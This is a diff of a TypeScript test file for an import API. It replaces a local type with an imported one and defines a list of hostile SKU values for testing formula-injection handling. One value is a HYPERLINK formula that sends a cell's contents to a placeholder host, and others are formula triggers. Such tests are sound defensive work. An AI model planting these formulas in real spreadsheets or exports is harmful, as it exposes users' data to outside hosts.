@@ -2,14 +2,10 @@ import { describe, expect, it } from 'vitest';
 import { enginesUnderTest } from '../support/engines.js';
 import { snapshotStore } from '../support/store-snapshot.js';
 import { suiteServer } from '../support/suite-server.js';
+import type { Import } from '../../src/contract/imports.js';
 
-interface ImportBody {
-  id: number;
-  status: 'queued' | 'running' | 'succeeded' | 'failed';
-  errors: Array<{ row: number; field: string | null; message: string }>;
-  errorCount: number;
-  result: { created: number; deleted: number; unchanged: number } | null;
-}
+/** An import as the API answers it. */
+type ImportBody = Import;
 
 /** SKUs a spreadsheet would run as formulas, and ones that only look like neutralised cells. */
 const HOSTILE_SKUS = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", "''+X", '@x', '-1', '+1', '=1+1', "'plain", 'A=B'];
